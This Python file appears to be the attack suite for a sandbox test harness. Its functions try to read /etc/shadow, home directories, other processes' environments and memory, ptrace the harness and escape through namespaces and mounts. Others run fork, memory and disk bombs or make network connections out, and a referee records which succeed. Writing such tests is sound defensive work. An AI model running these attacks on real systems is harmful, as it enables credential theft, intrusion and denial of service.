"""Hostile programs, executed inside a sandbox by :mod:`harness.sandbox.redteam.referee`.

Each is a function: ``python3 attacks.py NAME AIM``, AIM being what to attack, in JSON. What it
tries to do, ``attack_table`` says. More of them are in files beside this one, which end as this
one does, with :func:`main`. They use Python alone, nothing of the harness (it is not there), and
are bounded by themselves: in a machine without any sandbox they take a second or two, a gigabyte,
two hundred processes, and are gone.

An attack prints ``begun``; ``escaped: …`` for whatever it achieved; and what it could read, in
which the referee looks for a secret. Refusals are printed as well, for anyone who looks into them.
"""

import _thread
import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

Aim = dict[str, Any]
MIB = 1 << 20
# An attack must hold what is over the limit for so many seconds before it counts. A busy machine
# may look at the box late; an attack that is ended in time has failed.
LATE = 3.0
_calls: dict[str, int] = {}


def add_calls(table: str) -> None:
    """Read system calls: each with its number on x86_64 and, after a slash, on other machines."""
    place = 0 if os.uname().machine == "x86_64" else -1
    rows = (entry.partition("=") for entry in table.split())
    _calls.update((name, int(told.split("/")[place])) for name, _, told in rows)


add_calls(
    """
    add_key=248/217 bpf=321/280 clone=56/220 io_uring_setup=425 keyctl=250/219 memfd_create=319/279
    mount=165/40 msgget=68/186 msgsnd=69/189 perf_event_open=298/241 pidfd_getfd=438
    pidfd_send_signal=424 pivot_root=155/41 process_vm_readv=310/270 ptrace=101/117
    rt_sigqueueinfo=129/138 setns=308/268 shmget=29/194 tgkill=234/131 tkill=200/130 unshare=272/97
    userfaultfd=323/282
    """
)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p


def call(name: str, *arguments: Any) -> int:
    """Make a system call; OSError if it is refused."""
    passed = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result: int = libc.syscall(ctypes.c_long(_calls[name]), *passed)
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def map_memory(size: int, flags: int, protection: int = 3, file: int = -1, offset: int = 0) -> int:
    """Map memory, or a part of a file; return its address. OSError if it is refused."""
    area = libc.mmap(
        None, ctypes.c_size_t(size), protection, flags, ctypes.c_int(file), ctypes.c_long(offset)
    )
    if area in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    return int(area)


def escaped(method: str) -> None:
    """Report a success."""
    print("escaped:", method, flush=True)


@contextlib.contextmanager
def trying(action: str) -> Iterator[None]:
    """Report what happens inside: a success unless it is refused."""
    with refusals_of(action):
        yield
        escaped(action)


@contextlib.contextmanager
def refusals_of(action: str) -> Iterator[None]:
    """Continue after a refusal; whether there is success shows elsewhere."""
    try:
        yield
    except (OSError, ImportError, ValueError) as error:
        print("refused:", action, "-", error, flush=True)


def show(path: str) -> None:
    """Print a file, should it be readable: the referee looks for its secret."""
    with refusals_of(f"read {path}"), open(path, "rb") as file:
        print(path, ":", file.read(1 << 16).decode(errors="replace"), flush=True)


def processes() -> list[str]:
    """Return the ids of the processes one can see, and of some one cannot list."""
    with contextlib.suppress(OSError):
        return [name for name in os.listdir("/proc") if name.isdigit()]
    return [str(pid) for pid in range(1, 200)]


def read_case_by_name(aim: Aim) -> None:
    show(aim["secret"])


def read_case_through_proc(aim: Aim) -> None:
    for pid in {*processes(), str(aim["victim"]), "self"}:
        show(f"/proc/{pid}/root{aim['secret']}")
        show(f"/proc/{pid}/cwd/{os.path.basename(aim['secret'])}")
        for number in range(3, 12):
            link = f"/proc/{pid}/fd/{number}"
            with contextlib.suppress(OSError):
                if os.path.isfile(link):
                    show(link)


def read_case_through_links(aim: Aim) -> None:
    for name in ("symbolic", "hard"):
        show(os.path.join(aim["submission"], name))
    for maker in (os.symlink, os.link):
        with refusals_of(f"{maker.__name__} in the submission"):
            maker(aim["secret"], os.path.join(aim["submission"], "new"))
            show(os.path.join(aim["submission"], "new"))
        with refusals_of(f"{maker.__name__} in /tmp"):
            maker(aim["secret"], f"/tmp/{maker.__name__}")
            show(f"/tmp/{maker.__name__}")


def read_oracle(aim: Aim) -> None:
    sys.path[:0] = [aim["home"], *aim["path"]]
    for name in ("oracle", "harness", "oracle.rules.go", "harness.core.records"):
        with trying(f"import {name}"):
            __import__(name)
    with trying("list the shipped cases"):
        os.listdir(os.path.join(aim["home"], "cases"))


def read_system_secrets(_aim: Aim) -> None:
    homes = ["/root"]
    with refusals_of("list /home"):
        homes += [f"/home/{name}" for name in os.listdir("/home")]
    files = ["/etc/shadow", "/etc/passwd", "/proc/kcore", "/proc/keys"]
    for home in homes:
        with refusals_of(f"list {home}"):
            files += [f"{home}/{n}" for n in os.listdir(home) if os.path.isfile(f"{home}/{n}")]
    for path in files:
        with trying(f"open {path}"):
            os.close(os.open(path, os.O_RDONLY))


def read_environment(aim: Aim) -> None:
    """Read other processes' environments, that of the box's first process first."""
    for pid in {*processes(), str(aim["victim"]), "1", str(os.getppid())}:
        show(f"/proc/{pid}/environ")


def read_command_lines(aim: Aim) -> None:
    for pid in {*processes(), str(aim["victim"]), str(os.getppid())} - {"self", str(os.getpid())}:
        show(f"/proc/{pid}/cmdline")


def read_memory(aim: Aim) -> None:
    """Read the harness's memory through /proc, and that of the box's own first process."""
    with trying("open the memory of the harness"):
        os.close(os.open(f"/proc/{aim['victim']}/mem", os.O_RDONLY))
    for pid in (os.getppid(), 1):
        with refusals_of(f"read the memory of {pid}"):
            # Print what a process can write to: its data, heap and stack, a megabyte of each.
            memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
                areas = [line.split()[0] for line in maps if " rw" in line]
            for area in areas:
                start, end = (int(number, 16) for number in area.split("-"))
                with contextlib.suppress(OSError):
                    data = os.pread(memory, min(end - start, MIB), start)
                    print(data.replace(b"\0", b"").decode("latin-1"), flush=True)


def read_memory_by_call(aim: Aim) -> None:
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 1)
    for pid in (aim["victim"], os.getppid(), os.getpid()):
        with trying(f"process_vm_readv of {pid}"):
            call("process_vm_readv", pid, vector, 1, vector, 1, 0)
    for pid in (aim["victim"], os.getppid()):
        with trying(f"pidfd_getfd of {pid}"):
            call("pidfd_getfd", os.pidfd_open(pid), 0, 0)


def use_descriptors(_aim: Aim) -> None:
    """Find descriptors that were open from the start, besides the three streams."""
    for number in range(3, 1024):
        with contextlib.suppress(OSError):
            os.fstat(number)
            escaped(f"descriptor {number} is open")


def trace(aim: Aim) -> None:
    for pid in (aim["victim"], os.getppid()):
        with trying(f"ptrace {pid}"):
            call("ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE does not stop it
    with trying("ptrace itself"):
        call("ptrace", 0, 0, 0, 0)


def read_metadata(aim: Aim) -> None:
    with trying("stat the private case file"):
        os.stat(aim["secret"])
    with trying("see where a private link leads"):
        os.readlink(aim["link"])


def signal_harness(aim: Aim) -> None:
    """Signal the harness in every way; its own handler is the witness."""
    number, victim = signal.SIGURG, aim["victim"]
    information = (ctypes.c_int * 32)(number, 0, -1)
    ways: dict[str, Callable[[], Any]] = {
        "kill": lambda: os.kill(victim, number),
        "killpg": lambda: os.killpg(victim, number),
        "tkill": lambda: call("tkill", victim, int(number)),
        "tgkill": lambda: call("tgkill", victim, victim, int(number)),
        "rt_sigqueueinfo": lambda: call("rt_sigqueueinfo", victim, int(number), information),
        "pidfd_send_signal": lambda: call(
            "pidfd_send_signal", os.pidfd_open(victim), int(number), None, 0
        ),
        "F_SETOWN": lambda: _signal_by_pipe(victim, number),
    }
    for name, way in ways.items():
        with refusals_of(name):
            way()


def _signal_by_pipe(victim: int, number: int) -> None:
    """Have the kernel signal the owner of a pipe that can be read."""
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, victim)
    fcntl.fcntl(reading, 10, int(number))  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b".")


def signal_everybody(_aim: Aim) -> None:
    with refusals_of("kill -1"):
        os.kill(-1, signal.SIGURG)


def fork_bomb(_aim: Aim) -> None:
    started = 0
    for _ in range(200):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                time.sleep(4)
                os._exit(0)
            started += 1
    time.sleep(1)
    if started >= 200:
        escaped("200 processes")


def thread_bomb(_aim: Aim) -> None:
    _thread.stack_size(1 << 16)
    started = 0
    with contextlib.suppress(RuntimeError, OSError):
        for _ in range(1000):
            _thread.start_new_thread(time.sleep, (2,))
            started += 1
    if started >= 1000:
        escaped("1000 threads")


def run_away(_aim: Aim) -> None:
    """Fork without end for three seconds, each process gone before it can be hit."""
    deadline = time.monotonic() + 3
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            while time.monotonic() < deadline:
                with contextlib.suppress(OSError):
                    if os.fork():
                        os._exit(0)
            os._exit(0)


def daemonise(_aim: Aim) -> None:
    """Leave a process behind that has no parent and no session of ours."""
    for _ in range(2):
        if os.fork():
            os._exit(0)
        os.setsid()
    for number in range(256):
        with contextlib.suppress(OSError):
            os.close(number)
    time.sleep(20)


def stop_itself(_aim: Aim) -> None:
    """Stop all its processes, so that no signal but one is ever handled."""
    with contextlib.suppress(OSError):
        os.fork()
    print("begun", flush=True)
    os.kill(os.getpid(), signal.SIGSTOP)


def close_everything(_aim: Aim) -> None:
    for number in range(1, signal.NSIG):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 4096)
    time.sleep(20)


def many_descriptors(_aim: Aim) -> None:
    opened: list[int] = []
    with contextlib.suppress(OSError):
        opened += [os.open("/dev/null", os.O_RDONLY) for _ in range(10_000)]
    with contextlib.suppress(OSError):
        while len(opened) < 10_000:
            opened.append(os.dup(0))
    if len(opened) >= 10_000:
        escaped("10,000 descriptors")


def memory_hog(_aim: Aim) -> None:
    blocks = [_fill(16 * MIB) for _ in range(75)]
    escaped(f"{len(blocks) * 16} MiB")


def _fill(size: int) -> bytearray:
    time.sleep(0.005)  # two seconds to be noticed in: the same as on a machine without room
    return bytearray(b"x") * size


def memory_hogs(_aim: Aim) -> None:
    children = []
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            block = [_fill(16 * MIB) for _ in range(8)]
            time.sleep(1.5)
            os._exit(len(block) - 8)
        children.append(pid)
    if all(os.waitpid(pid, 0)[1] == 0 for pid in children):
        escaped("1 GiB in 8 processes")


def memory_unmapped(_aim: Aim) -> None:
    size, shared_and_anonymous = 16 * MIB, 0x21
    with refusals_of("mmap"):
        for _ in range(64):
            area = map_memory(size, shared_and_anonymous)
            ctypes.memset(area, 1, size)
            libc.madvise(ctypes.c_void_p(area), ctypes.c_size_t(size), 4)  # MADV_DONTNEED
            time.sleep(0.005)
        escaped("1 GiB out of sight")


def memory_in_file(_aim: Aim) -> None:
    with refusals_of("memfd_create"):
        for _ in range(64):
            file = call("memfd_create", b"hog", 0)
            os.write(file, bytes(16 * MIB))
            time.sleep(0.005)
        escaped("1 GiB in memfds")


def _writable_folders() -> list[str]:
    candidates = ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/"), ".", "/run", "/dev"]
    return [path for path in candidates if os.access(path, os.W_OK)]


def disk_hog(_aim: Aim) -> None:
    written = 0
    for number in range(50):
        for folder in _writable_folders():
            with contextlib.suppress(OSError), open(f"{folder}/hog{number}", "wb") as file:
                written += file.write(bytes(4_000_000))
                break
    if written >= 200_000_000:
        escaped("200 MB of disk")


def large_file(_aim: Aim) -> None:
    """Write one file of 200 MB; and one with a hole that is longer."""
    for folder in _writable_folders():
        with refusals_of(f"large file in {folder}"), open(f"{folder}/large", "wb") as file:
            for _ in range(50):
                file.write(bytes(4_000_000))
            escaped("a file of 200 MB")
        with trying(f"a file of a terabyte in {folder}"):
            os.truncate(f"{folder}/large", 1 << 40)


def inode_hog(_aim: Aim) -> None:
    for folder in _writable_folders():
        with contextlib.suppress(OSError):
            for number in range(30_000):
                os.close(os.open(f"{folder}/i{number}", os.O_CREAT | os.O_WRONLY))
            escaped("30,000 files")


def long_lines(_aim: Aim) -> None:
    line = b"x" * MIB
    for _ in range(2000):
        os.write(1, line)
    escaped("2 GB of output were taken")


def endless_errors(_aim: Aim) -> None:
    line = b"x" * 80 + b"\n"
    for _ in range(2000):
        os.write(2, line * 12_000)
    escaped("2 GB of standard error were taken")


def tcp(aim: Aim) -> None:
    own = aim["tcp"]
    for name, family, address in (
        (("127.0.0.1", own), socket.AF_INET, ("127.0.0.1", own)),
        (("192.0.2.1", 80), socket.AF_INET, ("192.0.2.1", 80)),
        (("1.1.1.1", 53), socket.AF_INET, ("1.1.1.1", 53)),
        ("::1", socket.AF_INET6, ("::1", own)),
    ):
        with trying(f"connect to {name}"), socket.socket(family) as connection:
            connection.settimeout(0.3)
            # Refused from outside: the packet went there and back.
            with contextlib.suppress(ConnectionRefusedError):
                connection.connect(address)
                connection.sendall(aim["word"].encode())


def udp(aim: Aim) -> None:
    for address in (("127.0.0.1", aim["udp"]), ("192.0.2.1", 53)):
        with trying(f"datagram to {address}"), socket.socket(type=socket.SOCK_DGRAM) as sender:
            sender.sendto(aim["word"].encode(), address)


def unix_sockets(aim: Aim) -> None:
    """Talk to Unix sockets with a name, with a path, and through a pair."""
    for address in (f"\0{aim['abstract']}", aim["path_socket"]):
        with trying(f"connect to {address!r}"), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(address)
            connection.sendall(aim["word"].encode())
    for address in (f"\0{aim['abstract']}.datagram", aim["path_socket"] + ".datagram"):
        with trying(f"datagram to {address!r}"):
            sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            sender.sendto(aim["word"].encode(), address)
        with trying(f"datagram from a pair to {address!r}"):
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            pair[0].sendto(aim["word"].encode(), address)


def other_sockets(_aim: Aim) -> None:
    for name, family, kind in (
        ("netlink", socket.AF_NETLINK, socket.SOCK_RAW),
        ("packet", socket.AF_PACKET, socket.SOCK_RAW),
        ("raw", socket.AF_INET, socket.SOCK_RAW),
        ("vsock", 40, socket.SOCK_STREAM),
    ):
        with trying(f"a {name} socket"):
            socket.socket(family, kind)


def listen(_aim: Aim) -> None:
    with trying("listen on a port"), socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen()
    with trying("listen on a name"), socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0gtp-harness-attack")
        listener.listen()


def write_outside(aim: Aim) -> None:
    """Create files outside; the referee looks whether they are there."""
    folders = [
        os.path.dirname(aim["secret"]),
        aim["submission"],
        aim["folder"],
        aim["home"],
        *("/usr", "/etc", "/", "/tmp", "/dev/shm", "/dev", "/var/tmp", "/root", "/home"),
    ]
    for folder in folders:
        with refusals_of(f"create a file in {folder}"):
            path = os.path.join(folder, aim["mark"])
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))


def write_case(aim: Aim) -> None:
    own = os.path.abspath(__file__)
    for path in (aim["secret"], own):
        with refusals_of(f"append to {path}"), open(path, "ab") as file:
            file.write(b" ")
        for name, change in CHANGES.items():
            with refusals_of(f"{name} {path}"):
                change(path)


CHANGES: dict[str, Callable[[str], None]] = {
    "chmod": lambda path: os.chmod(path, 0o777),
    "utime": lambda path: os.utime(path, (1, 1)),
    "setxattr": lambda path: os.setxattr(path, "user.attack", b"1"),
    "truncate": lambda path: os.truncate(path, 1),
    "unlink": os.unlink,
    "rename": lambda path: os.rename(path, path + ".new"),
}


def write_kernel_settings(_aim: Aim) -> None:
    """Open the kernel's settings for writing; nothing is written."""
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/printk",
        "/proc/sys/kernel/hostname",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/memory/cgroup.procs",
    ):
        with trying(f"open {path} for writing"):
            os.close(os.open(path, os.O_WRONLY))


def open_devices(_aim: Aim) -> None:
    for name in (
        *("tty", "console", "ptmx", "mem", "kmsg", "fuse"),
        *("vda", "sda", "loop-control", "kvm", "net/tun", "pts/0"),
    ):
        with trying(f"open /dev/{name}"):
            os.close(os.open(f"/dev/{name}", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))


def type_on_terminal(_aim: Aim) -> None:
    for number in range(3):
        with trying(f"TIOCSTI on {number}"):
            fcntl.ioctl(number, 0x5412, b"x")


def set_uid(_aim: Aim) -> None:
    """Gain rights through programs that are set-uid, capabilities, or simply by asking."""
    with open("/proc/self/status", encoding="ascii") as file:
        status = dict(line.split(":", 1) for line in file)
    if status["NoNewPrivs"].strip() != "1":
        escaped("set-uid programs give their rights")
    if int(status["CapPrm"], 16) or int(status["CapInh"], 16) or int(status["CapAmb"], 16):
        escaped("capabilities")
    if 0 in os.getresuid() + os.getresgid():
        escaped("root")
    with trying("setuid(0)"):
        os.setuid(0)
    with trying("more descriptors than allowed"):
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 19, 1 << 19))


def namespaces(_aim: Aim) -> None:
    for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000)):
        with trying(f"unshare the {name} namespace"):
            call("unshare", flag)
        with trying(f"clone into a new {name} namespace"):
            if call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0) == 0:
                os._exit(0)
    for name in ("mnt", "net", "pid"):
        with trying(f"enter the {name} namespace of process 1"):
            call("setns", os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)


def mounts(_aim: Aim) -> None:
    with trying("mount a tmpfs"):
        call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    with trying("make the root writable"):
        call("mount", b"none", b"/", b"", 4096 | 32, None)
    with trying("chroot"):
        os.chroot("/tmp")
    with trying("pivot_root"):
        call("pivot_root", b"/tmp", b"/tmp")


def kernel_holes(_aim: Aim) -> None:
    """Reach the parts of the kernel that had the most holes."""
    zeros = ctypes.create_string_buffer(128)
    for name, arguments in {
        "io_uring_setup": (1, zeros),
        "bpf": (0, zeros, 128),
        "perf_event_open": (zeros, 0, -1, -1, 0),
        "userfaultfd": (1,),
    }.items():
        with trying(name):
            call(name, *arguments)


# From one engine to the next


def leave_files(aim: Aim) -> None:
    for folder in _writable_folders():
        with refusals_of(f"mark in {folder}"), open(f"{folder}/gtp-harness-mark", "w") as file:
            file.write(aim["mark"])


def find_files(_aim: Aim) -> None:
    for folder in _writable_folders():
        with trying(f"find a mark in {folder}"), open(f"{folder}/gtp-harness-mark") as file:
            file.read()


_KEY = 0x60B0A4D


def leave_ipc(_aim: Aim) -> None:
    with refusals_of("shmget"):
        call("shmget", _KEY, 4096, 0o1666)
    with refusals_of("msgsnd"):
        message = ctypes.create_string_buffer(b"\1\0\0\0\0\0\0\0mark", 16)
        call("msgsnd", call("msgget", _KEY, 0o1666), message, 8, 0)
    with refusals_of("mq_open"):
        _mq_open(os.O_CREAT | os.O_RDWR)


def find_ipc(_aim: Aim) -> None:
    with trying("find shared memory"):
        found = call("shmget", _KEY, 0, 0o666)
        libc.shmctl(found, 0, None)
    with trying("find a message"):
        found = call("msgget", _KEY, 0o666)
        libc.msgctl(found, 0, None)
    with trying("find a queue"):
        _mq_open(os.O_RDWR)
        ctypes.CDLL("librt.so.1").mq_unlink(b"/gtp-harness-mark")


def _mq_open(flags: int) -> None:
    queue = ctypes.CDLL("librt.so.1", use_errno=True)
    if queue.mq_open(b"/gtp-harness-mark", flags, 0o666, None) < 0:
        raise OSError(ctypes.get_errno(), "mq_open")


def leave_key(aim: Aim) -> None:
    with refusals_of("add_key"):
        call("add_key", b"user", b"gtp-harness-mark", aim["mark"].encode(), 4, -4)


def find_key(_aim: Aim) -> None:
    with trying("find a key"):
        call("keyctl", 10, -4, b"user", b"gtp-harness-mark", 0)


def main(programs: dict[str, Any]) -> None:
    """Run the program that the command names."""
    print("begun", flush=True)
    programs[sys.argv[1]](json.loads(sys.argv[2]))
    print("over", flush=True)


if __name__ == "__main__":
    main(globals())
